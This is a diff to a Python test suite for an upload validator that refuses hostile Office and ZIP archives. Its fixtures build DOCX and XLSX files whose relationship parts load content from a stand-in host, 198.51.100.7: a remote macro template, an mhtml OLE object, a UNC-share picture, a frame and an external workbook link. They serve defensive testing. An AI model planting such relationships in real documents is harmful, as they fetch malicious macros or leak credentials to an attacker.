@@ -37,6 +37,7 @@ from tests.support.archives import (
     docx_parts,
     driver_zip,
     raw_zip,
+    relationships,
     xlsx,
     xlsx_parts,
     zipped,
@@ -179,6 +180,43 @@ def _nested(depth: int, inner: bytes, name: str = "表格/申请表.docx") -> by
     for level in range(depth):
         inner = zipped({name if level == 0 else f"第{level}层.zip": inner})
     return inner
+
+
+def _relating(
+    parts: dict[str, bytes | str], name: str, *entries: tuple[str, str] | tuple[str, str, str]
+) -> dict[str, bytes | str]:
+    """``parts`` with the relationships part ``name`` relating ``entries`` (``relationships``)."""
+    return {**parts, name: relationships(*entries)}
+
+
+SETTINGS_RELS = "word/_rels/settings.xml.rels"
+DOCUMENT_RELS = "word/_rels/document.xml.rels"
+XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
+CHART_WORKBOOK = "word/embeddings/Microsoft_Excel_Worksheet.xlsx"
+
+
+def _remote_template() -> bytes:
+    """A DOCX whose settings attach a template from a web server: Word fetches it when the
+    file opens and runs its macros (a known way in for malware: the DOCX itself holds none)."""
+    template = ("attachedTemplate", "http://198.51.100.7/申请表.dotm", "External")
+    return zipped(_relating(docx_parts(), SETTINGS_RELS, template))
+
+
+def _with_chart(parts: dict[str, bytes | str], workbook: bytes) -> dict[str, bytes | str]:
+    """``parts`` (a DOCX's) with a chart's workbook under ``word/embeddings/``, as Word keeps it."""
+    return {**declaring(parts, defaults={"xlsx": XLSX}), CHART_WORKBOOK: workbook}
+
+
+def _form_with_a_chart(workbook: bytes | None = None) -> bytes:
+    """A ZIP of forms, one of them a DOCX with a chart (its workbook an XLSX in the DOCX, two
+    levels down)."""
+    form = zipped(_with_chart(docx_parts(), xlsx() if workbook is None else workbook))
+    return zipped({"表格/申请表.docx": form, "表格/清单.xlsx": xlsx(), "说明.txt": "x"})
+
+
+def _macro_workbook() -> bytes:
+    return zipped({**xlsx_parts(), "xl/vbaProject.bin": OLE_FILE})
 
 
 REFUSED: dict[str, tuple[Callable[[], bytes], str, str]] = {
@@ -423,6 +461,122 @@ REFUSED: dict[str, tuple[Callable[[], bytes], str, str]] = {
         "office_macros",
         "含有宏（表格/申请表.docx/word/vbaProject.bin）",
     ),
+    # 12-07, later: relationships that load from outside, and Office's embedded packages
+    "remote-template": (
+        _remote_template,
+        "office_external_content",
+        "文件打开时会从外部加载内容（http://198.51.100.7/申请表.dotm，见"
+        "word/_rels/settings.xml.rels），外部的模板、对象或图片可能带有恶意代码，请删除外部"
+        "模板、链接的对象和图片（Word中：文件→信息→编辑指向文件的链接）后重新保存上传"
+        "（普通超链接不受影响）。",
+    ),
+    "remote-ole-object": (
+        lambda: zipped(
+            _relating(
+                docx_parts(),
+                DOCUMENT_RELS,
+                ("hyperlink", "https://www.example.cn/", "External"),
+                (
+                    "oleObject",
+                    "mhtml:http://198.51.100.7/x.html!x-usc:http://198.51.100.7/x",
+                    "External",
+                ),
+            )
+        ),
+        "office_external_content",
+        "（mhtml:http://198.51.100.7/x.html!x-usc:http://198.51.100.7/x，见word/_rels/document.xml.rels）",
+    ),
+    "linked-picture-on-a-share": (
+        lambda: zipped(
+            _relating(
+                docx_parts(), DOCUMENT_RELS, ("image", "\\\\198.51.100.7\\s\\a.png", "External")
+            )
+        ),
+        "office_external_content",
+        "（\\\\198.51.100.7\\s\\a.png，见word/_rels/document.xml.rels）",
+    ),
+    "frame-in-the-strict-namespace": (
+        lambda: zipped(
+            _relating(
+                docx_parts(),
+                "word/_rels/webSettings.xml.rels",
+                (
+                    "http://purl.oclc.org/ooxml/officeDocument/relationships/frame",
+                    "http://198.51.100.7/f",
+                    "external",
+                ),
+            )
+        ),
+        "office_external_content",
+        "（http://198.51.100.7/f，见word/_rels/webSettings.xml.rels）",
+    ),
+    "workbook-linked-to-another": (
+        lambda: zipped(
+            _relating(
+                xlsx_parts(),
+                "xl/externalLinks/_rels/externalLink1.xml.rels",
+                ("externalLinkPath", "file:///\\\\198.51.100.7\\共享\\价格.xlsx", "External"),
+            )
+        ),
+        "office_external_content",
+        "见xl/externalLinks/_rels/externalLink1.xml.rels",
+    ),
+    "remote-template-in-a-zip": (
+        lambda: _nested(1, _remote_template()),
+        "office_external_content",
+        "见表格/申请表.docx/word/_rels/settings.xml.rels）",
+    ),
+    "relationships-with-a-dtd": (
+        lambda: zipped({**docx_parts(), DOCUMENT_RELS: LAUGHS.replace("Types", "Relationships")}),
+        "office_relationships",
+        "文件中的“word/_rels/document.xml.rels”已损坏、过大或含有不允许的内容（DTD或实体声明），"
+        "无法确认它不从外部加载内容，请用Word或Excel重新保存后上传。",
+    ),
+    "relationships-not-xml": (
+        lambda: zipped({**docx_parts(), "_rels/.rels": "<Relationships><Relationship"}),
+        "office_relationships",
+        "“_rels/.rels”已损坏",
+    ),
+    "macros-in-a-chart-workbook-in-a-zip": (
+        lambda: _form_with_a_chart(_macro_workbook()),
+        "office_macros",
+        "文件中含有宏（表格/申请表.docx/word/embeddings/Microsoft_Excel_Worksheet.xlsx/xl/"
+        "vbaProject.bin）",
+    ),
+    "remote-template-in-an-embedded-docx-in-a-zip": (
+        lambda: _nested(
+            1,
+            zipped(
+                {
+                    **declaring(
+                        docx_parts(),
+                        defaults={"docx": DOCX},
+                    ),
+                    "word/embeddings/Microsoft_Word_Document.docx": _remote_template(),
+                }
+            ),
+        ),
+        "office_external_content",
+        "见表格/申请表.docx/word/embeddings/Microsoft_Word_Document.docx/word/_rels/settings.xml…）",
+    ),
+    "plain-zip-as-a-chart-workbook-in-a-zip": (
+        lambda: _form_with_a_chart(driver_zip(1000)),
+        "archive_nested",
+        "压缩文件中的“表格/申请表.docx/word/embeddings/Microsoft_Excel_Worksheet.xlsx”嵌套过深",
+    ),
+    "workbook-outside-embeddings-in-a-zip": (
+        lambda: _nested(1, zipped({**docx_parts(), "word/media/chart.xlsx": xlsx()})),
+        "archive_nested",
+        "“表格/申请表.docx/word/media/chart.xlsx”嵌套过深",
+    ),
+    "zip-in-a-chart-workbook-in-a-zip": (
+        lambda: _form_with_a_chart(
+            zipped({**xlsx_parts(), "xl/embeddings/旧版.zip": driver_zip(1000)})
+        ),
+        "archive_nested",
+        "“表格/申请表.docx/word/embeddings/Microsoft_Excel_Worksheet.xlsx/xl/embeddings/旧版.zip”"
+        "嵌套过深",
+    ),
     "zip-in-a-zip-in-a-zip": (
         lambda: _nested(2, driver_zip(1000), "驱动.zip"),
         "archive_nested",
@@ -448,7 +602,9 @@ def test_a_bad_archive_is_refused_in_chinese_and_nothing_is_kept(
     assert event.after["error"] == code and event.after["name"] == "驱动.zip"
 
 
-@pytest.mark.parametrize("key", ["bomb-600-mib", "stored-crc-wrong", "docx-with-macros"])
+@pytest.mark.parametrize(
+    "key", ["bomb-600-mib", "stored-crc-wrong", "docx-with-macros", "remote-template"]
+)
 def test_a_bad_archive_is_refused_as_an_attachment_too(
     clock, editor: User, published: Path, key: str
 ) -> None:  # type: ignore[no-untyped-def]
@@ -487,12 +643,17 @@ INTACT: dict[str, tuple[Callable[[], bytes], str]] = {
         files.ZIP,
     ),
     "driver-zip-in-a-zip": (lambda: zipped({"驱动/旧版.zip": driver_zip()}), files.ZIP),
-    "docx-with-a-chart-workbook": (
-        lambda: _with_part(
-            docx_parts(),
-            "word/embeddings/Microsoft_Excel_Worksheet.xlsx",
-            xlsx(),
-            defaults={"xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"},
+    "docx-with-a-chart-workbook": (lambda: zipped(_with_chart(docx_parts(), xlsx())), files.DOCX),
+    "forms-in-a-zip-one-with-a-chart": (_form_with_a_chart, files.ZIP),  # refused before
+    "docx-with-hyperlinks": (
+        lambda: zipped(
+            _relating(
+                docx_parts(),
+                DOCUMENT_RELS,
+                ("hyperlink", "https://www.example.cn/证书", "External"),
+                ("hyperlink", "#附件一"),
+                ("image", "media/image1.png"),
+            )
         ),
         files.DOCX,
     ),
@@ -556,3 +717,12 @@ def test_the_bounds_are_the_whole_uploads_across_both_levels(
         "limit": 1,
     }
     assert storage.check_archive(path) == "zip"  # the child's own bound, 64 MiB
+    # the packages' own XML parsed: two DOCX whose relationships fit the bound alone, not both
+    links = [("hyperlink", f"https://www.example.cn/{n}", "External") for n in range(300)]
+    form = _relating(docx_parts(), DOCUMENT_RELS, *links)
+    path.write_bytes(zipped({"表格/一.docx": zipped(form), "表格/二.docx": zipped(form)}))
+    monkeypatch.setattr(archives, "MAX_PACKAGE_XML", len(str(form[DOCUMENT_RELS])) * 3 // 2)
+    assert archives.inspect(str(path)) == {
+        "error": "office_relationships",
+        "name": "表格/二.docx/word/_rels/document.xml.rels",
+    }
